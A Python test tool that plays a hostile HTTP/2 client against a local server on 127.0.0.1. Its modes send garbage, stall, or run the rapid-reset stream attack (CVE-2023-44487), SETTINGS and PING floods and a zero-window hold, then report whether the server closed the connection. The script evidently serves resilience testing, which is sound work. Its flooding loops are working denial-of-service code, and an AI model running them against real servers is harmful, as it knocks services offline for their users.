#!/usr/bin/env python3
"""A hostile HTTP/2 peer (h2c with prior knowledge), frames made with hyperframe and hpack (PyPI, h2's own).

Modes:
  garbage        bytes that are not the preface
  silent         connects and sends nothing
  open-headers   the preface, then a HEADERS frame without END_HEADERS, then nothing
  rapid-reset    opens and resets streams as fast as it can (CVE-2023-44487)
  settings-flood SETTINGS frames without ever reading the server's acknowledgements
  ping-flood     PING frames without ever reading the answers
  zero-window    opens a WebSocket with a stream window of 0 (SETTINGS_INITIAL_WINDOW_SIZE) and never opens it: the
                 server cannot send a byte on the stream, not even its pings

Prints one line: "closed after <seconds> s, goaway <code|none>, sent <frames>" when the server closed the
connection within --limit seconds, "open after <limit> s, sent <frames>" when it did not; zero-window prints
"reset after <seconds> s, code <code>" when the server reset the stream.
"""
import argparse
import os
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def request_block(encoder, port, stream):
    return encoder.encode([
        (":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"), (":path", "/echo"),
        (":authority", f"localhost:{port}"), ("sec-websocket-version", "13"),
    ])


def read_goaway(data):
    """The error code of the first GOAWAY frame in data (after the server's SETTINGS), or None."""
    offset = 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        kind = data[offset + 3]
        if kind == 0x7 and offset + 9 + 8 <= len(data):
            return struct.unpack("!I", data[offset + 13:offset + 17])[0]
        offset += 9 + length
    return None


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--limit", type=float, default=20)
    args = parser.parse_args()
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=5)
    sock.setblocking(False)
    started = time.monotonic()
    received = bytearray()
    sent = 0
    closed = False

    def drain(read=True):
        nonlocal closed
        if not read:
            return
        while True:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                return
            except (ConnectionResetError, BrokenPipeError):
                closed = True
                return
            if not data:
                closed = True
                return
            received.extend(data)

    def send(data, read=True):
        nonlocal closed
        view = memoryview(data)
        while view and not closed:
            try:
                n = sock.send(view)
                view = view[n:]
            except BlockingIOError:
                drain(read)
                if time.monotonic() - started > args.limit:
                    return False
                time.sleep(0.001)
            except (ConnectionResetError, BrokenPipeError):
                closed = True
        return not closed

    encoder = hpack.Encoder()
    if args.mode == "garbage":
        send(os.urandom(64))
    elif args.mode == "silent":
        pass
    else:
        send(PREFACE + SettingsFrame(0).serialize())
        if args.mode == "open-headers":
            frame = HeadersFrame(1)
            frame.data = request_block(encoder, args.port, 1)[:5]
            send(frame.serialize())
            sent = 1
        elif args.mode == "rapid-reset":
            stream = 1
            while not closed and stream < 200000 and time.monotonic() - started < args.limit:
                headers = HeadersFrame(stream)
                headers.data = request_block(encoder, args.port, stream)
                headers.flags.add("END_HEADERS")
                reset = RstStreamFrame(stream)
                reset.error_code = 0x8
                if not send(headers.serialize() + reset.serialize()):
                    break
                drain()
                sent += 1
                stream += 2
        elif args.mode == "zero-window":
            settings = SettingsFrame(0)
            settings.settings = {0x4: 0}  # SETTINGS_INITIAL_WINDOW_SIZE
            headers = HeadersFrame(1)
            headers.data = request_block(encoder, args.port, 1)
            headers.flags.add("END_HEADERS")
            send(settings.serialize() + headers.serialize())
            sent = 1
            offset = 0
            while not closed and time.monotonic() - started < args.limit:
                drain()
                while offset + 9 <= len(received):
                    length = int.from_bytes(received[offset:offset + 3], "big")
                    if offset + 9 + length > len(received):
                        break
                    kind, stream = received[offset + 3], int.from_bytes(received[offset + 5:offset + 9], "big")
                    if kind == 0x3 and stream == 1:
                        code = struct.unpack("!I", received[offset + 9:offset + 13])[0]
                        print(f"reset after {time.monotonic() - started:.2f} s, code {code}")
                        return 0
                    if kind == 0x4 and not (received[offset + 4] & 0x1):
                        ack = SettingsFrame(0)
                        ack.flags.add("ACK")
                        send(ack.serialize())
                    offset += 9 + length
                time.sleep(0.01)
        elif args.mode in ("settings-flood", "ping-flood"):
            while not closed and sent < 500000 and time.monotonic() - started < args.limit:
                frame = SettingsFrame(0) if args.mode == "settings-flood" else PingFrame(0)
                if args.mode == "ping-flood":
                    frame.opaque_data = struct.pack("!Q", sent)
                if not send(frame.serialize() * 100, read=False):
                    break
                sent += 100
        else:
            print(f"unknown mode {args.mode}")
            return 2
    while not closed and time.monotonic() - started < args.limit:
        drain()
        time.sleep(0.01)
    elapsed = time.monotonic() - started
    if not closed:
        print(f"open after {args.limit:.0f} s, sent {sent}")
        return 1
    goaway = read_goaway(bytes(received))
    print(f"closed after {elapsed:.2f} s, goaway {'none' if goaway is None else goaway}, sent {sent}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
